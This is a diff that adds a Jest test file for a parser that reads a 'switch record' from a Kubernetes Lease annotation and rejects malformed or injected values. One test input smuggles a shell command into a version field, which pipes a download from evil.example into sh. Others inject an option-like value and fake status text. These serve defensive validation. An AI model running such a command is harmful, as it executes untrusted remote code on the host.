@@ -1,0 +1,32 @@
+import { describe, expect, it } from '@jest/globals';
+import { ANNOTATION, readRecord, type SwitchRecord } from '../../../../scripts/switch/lock/switch-record.ts';
+
+const record: SwitchRecord = {
+  id: '0123abcd',
+  from: 'v1',
+  to: '2026-11-23',
+  phase: 'running',
+  startedAt: '2026-11-23T12:00:00.000Z',
+};
+const read = (text: string) =>
+  readRecord({ metadata: { name: 'switch-shop', annotations: { [ANNOTATION]: text } }, spec: {} });
+
+describe('the record of a switch, in the annotation of its Lease', () => {
+  it('is read as it was written', () => {
+    expect(read(JSON.stringify(record))).toEqual(record);
+  });
+
+  it.each([
+    ['a version that a shell would take for more', { to: 'v2; curl evil.example | sh' }],
+    ['a version that is an option', { from: '--undo' }],
+    ['another phase', { phase: 'constructor' }],
+    ['no time', { startedAt: 'v2\n ✓ all done' }],
+    ['a number for a name', { id: 7 }],
+  ])('is none with %s', (_what, change) => {
+    expect(read(JSON.stringify({ ...record, ...change }))).toBeUndefined();
+  });
+
+  it.each(['', 'null', '7', '[]', '"v2"', '{}', '{"to":'])('is none in %j', (text) => {
+    expect(read(text)).toBeUndefined();
+  });
+});
